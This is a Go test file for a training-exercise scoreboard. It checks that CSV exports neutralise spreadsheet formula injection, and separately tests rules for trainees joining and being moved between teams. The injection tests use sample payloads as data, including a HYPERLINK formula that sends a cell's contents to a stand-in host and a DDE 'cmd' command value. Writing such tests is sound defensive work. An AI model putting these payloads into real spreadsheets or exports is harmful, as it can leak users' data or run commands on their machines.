package scoreboard

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/cordillera-range/cordillera/scenarios"
)

func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example","clic")`, `'=HYPERLINK("http://evil.example","clic")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-Inf", "'-Inf"},
		{"-0x1p3", "'-0x1p3"},
		{"- a dash", "'- a dash"},
		// Numbers stay numbers.
		{"-100", "-100"}, {"+25", "+25"}, {"-1.5", "-1.5"}, {"-.5", "-.5"}, {"-2e3", "-2e3"}, {"0", "0"}, {"99.5", "99.5"},
		// Text that a spreadsheet reads as text is left alone.
		{"", ""}, {"helped the other team", "helped the other team"}, {"a=b", "a=b"}, {"2026-12-02T05:00:00.000Z", "2026-12-02T05:00:00.000Z"},
	} {
		if got := csvCell(tc.in); got != tc.want {
			t.Errorf("csvCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// formulaLike is what a spreadsheet runs as a formula: a cell that starts
// with = + - @, a tab or a carriage return and is not a plain number.
func formulaLike(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !regexp.MustCompile(`^[+-]?[0-9.]+$`).MatchString(cell)
}

// TestCSVExportsWriteNoFormula records staff and team text that starts like
// a formula and reads every CSV export back: no text cell may start with
// = + - @, a tab or a carriage return, and negative points stay numbers.
func TestCSVExportsWriteNoFormula(t *testing.T) {
	ctx := context.Background()
	s := openStore(t, filepath.Join(t.TempDir(), "cordillera.db"))
	evil := `=HYPERLINK("http://evil.example/?"&A1,"clic")`
	err := s.CreateExercise(ctx, Exercise{Name: "ex", Title: "@SUM(1+1)", Scenario: "+scenario", Scoring: scenarios.DefaultScoring(), CreatedAt: t0},
		[]Team{{ID: "cl1", Name: "-2+3 CSIRT", Country: "CL"}, {ID: "co1", Name: "colCERT", Country: "CO"}})
	if err != nil {
		t.Fatal(err)
	}
	m := Moment{At: t0.Add(time.Minute), Elapsed: time.Minute}
	if _, err := s.Adjust(ctx, Adjustment{Exercise: "ex", Team: "cl1", Points: -100, Author: "=ines", Reason: evil, Moment: m}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Adjust(ctx, Adjustment{Exercise: "ex", Team: "co1", Points: 25, Author: "ines", Reason: "\t=1+1", Moment: m}); err != nil {
		t.Fatal(err)
	}
	exports := map[string]func(*bytes.Buffer) error{
		"standings":  func(b *bytes.Buffer) error { return Export(ctx, s, "ex", "standings", "csv", b) },
		"ledger":     func(b *bytes.Buffer) error { return Export(ctx, s, "ex", "ledger", "csv", b) },
		"statistics": func(b *bytes.Buffer) error { return Export(ctx, s, "ex", "statistics", "csv", b) },
		"trends":     func(b *bytes.Buffer) error { return Export(ctx, s, "", "trends", "csv", b) },
		"comparison": func(b *bytes.Buffer) error {
			cs, err := s.Compare(ctx)
			if err != nil {
				return err
			}
			return WriteComparisonCSV(b, cs)
		},
	}
	for name, write := range exports {
		t.Run(name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := write(&buf); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if formulaLike(cell) {
						t.Errorf("cell %q would be a formula (row %q)", cell, row)
					}
				}
			}
		})
	}
	var buf bytes.Buffer
	if err := Export(ctx, s, "ex", "ledger", "csv", &buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	var found bool
	for _, row := range rows[1:] {
		if row[col["team"]] != "cl1" {
			continue
		}
		found = true
		if got := row[col["reason"]]; got != "'"+evil {
			t.Errorf("reason = %q, want %q", got, "'"+evil)
		}
		if got := row[col["author"]]; got != "'=ines" {
			t.Errorf("author = %q, want '=ines", got)
		}
		if got := row[col["points"]]; got != "-100" {
			t.Errorf("points = %q, want -100: numbers stay numbers", got)
		}
	}
	if !found {
		t.Fatalf("no ledger row of cl1 in:\n%q", rows)
	}
}

// TestJoinTeamOnce: a trainee joins a team by its code once; after that
// only an instructor's move, which is kept, puts them elsewhere.
func TestJoinTeamOnce(t *testing.T) {
	ctx := context.Background()
	s := newExercise(t, scenarios.DefaultScoring())
	for _, u := range []User{{Name: "tomas", Role: RoleTrainee}, {Name: "ines", Role: RoleInstructor}} {
		u.PasswordHash = "h"
		if err := s.Accounts().CreateUser(ctx, u); err != nil {
			t.Fatal(err)
		}
	}
	team := func() string {
		t.Helper()
		u, err := s.Accounts().UserByName(ctx, "tomas")
		if err != nil {
			t.Fatal(err)
		}
		return u.Exercise + "/" + u.Team
	}
	if err := s.Accounts().JoinTeam(ctx, "tomas", "ex", "cl1"); err != nil {
		t.Fatal(err)
	}
	if err := s.Accounts().JoinTeam(ctx, "tomas", "ex", "cl1"); err != nil {
		t.Errorf("joining one's own team again: %v", err)
	}
	err := s.Accounts().JoinTeam(ctx, "tomas", "ex", "co1")
	if !errors.Is(err, ErrInTeam) || !errors.Is(err, ErrConflict) {
		t.Errorf("joining another team: %v, want ErrInTeam", err)
	}
	if got := team(); got != "ex/cl1" {
		t.Errorf("after a refused join tomas is in %q, want ex/cl1", got)
	}
	if err := s.Accounts().JoinTeam(ctx, "ines", "ex", "cl1"); !errors.Is(err, ErrInvalid) {
		t.Errorf("an instructor joining a team: %v", err)
	}
	if err := s.Accounts().JoinTeam(ctx, "nobody", "ex", "cl1"); !errors.Is(err, ErrNotFound) {
		t.Errorf("an unknown user joining: %v", err)
	}

	// The instructor's move, kept with its author and reason.
	at := t0.Add(time.Hour)
	if _, err := s.Accounts().MoveTrainee(ctx, TeamMove{Trainee: "tomas", Exercise: "ex", Team: "co1", Author: "ines"}); !errors.Is(err, ErrInvalid) {
		t.Errorf("a move without a reason: %v", err)
	}
	if _, err := s.Accounts().MoveTrainee(ctx, TeamMove{Trainee: "tomas", Exercise: "ex", Team: "cl1", Author: "ines", Reason: "r"}); !errors.Is(err, ErrInvalid) {
		t.Errorf("a move into the team one is in: %v", err)
	}
	if _, err := s.Accounts().MoveTrainee(ctx, TeamMove{Trainee: "tomas", Exercise: "ex", Team: "zz", Author: "ines", Reason: "r"}); !errors.Is(err, ErrNotFound) {
		t.Errorf("a move into an unknown team: %v", err)
	}
	if _, err := s.Accounts().MoveTrainee(ctx, TeamMove{Trainee: "ines", Exercise: "ex", Team: "co1", Author: "ines", Reason: "r"}); !errors.Is(err, ErrInvalid) {
		t.Errorf("moving an instructor: %v", err)
	}
	m, err := s.Accounts().MoveTrainee(ctx, TeamMove{Trainee: "tomas", Exercise: "ex", Team: "co1", Author: "ines", Reason: "colCERT is one short", At: at})
	if err != nil {
		t.Fatal(err)
	}
	if got := team(); got != "ex/co1" {
		t.Errorf("after the move tomas is in %q, want ex/co1", got)
	}
	if _, err := s.Accounts().MoveTrainee(ctx, TeamMove{Trainee: "tomas", Author: "ines", Reason: "left the program", At: at.Add(time.Minute)}); err != nil {
		t.Fatal(err)
	}
	if got := team(); got != "/" {
		t.Errorf("after the move out tomas is in %q, want no team", got)
	}
	moves, err := s.Accounts().TeamMoves(ctx, "ex")
	if err != nil {
		t.Fatal(err)
	}
	want := []TeamMove{
		{ID: m.ID + 1, Trainee: "tomas", FromExercise: "ex", FromTeam: "co1", Author: "ines", Reason: "left the program", At: at.Add(time.Minute)},
		{ID: m.ID, Trainee: "tomas", FromExercise: "ex", FromTeam: "cl1", Exercise: "ex", Team: "co1", Author: "ines", Reason: "colCERT is one short", At: at},
	}
	if len(moves) != len(want) {
		t.Fatalf("moves = %+v, want %+v", moves, want)
	}
	for i := range want {
		got, w := moves[i], want[i]
		same := got.At.Equal(w.At)
		got.At, w.At = time.Time{}, time.Time{}
		if !same || got != w {
			t.Errorf("move %d = %+v, want %+v", i, moves[i], want[i])
		}
	}
	tr, err := s.Accounts().Trainees(ctx, "ex")
	if err != nil || len(tr) != 1 || tr[0].Name != "tomas" || tr[0].Team != "" {
		t.Errorf("trainees = %+v, %v; want tomas in no team", tr, err)
	}
}
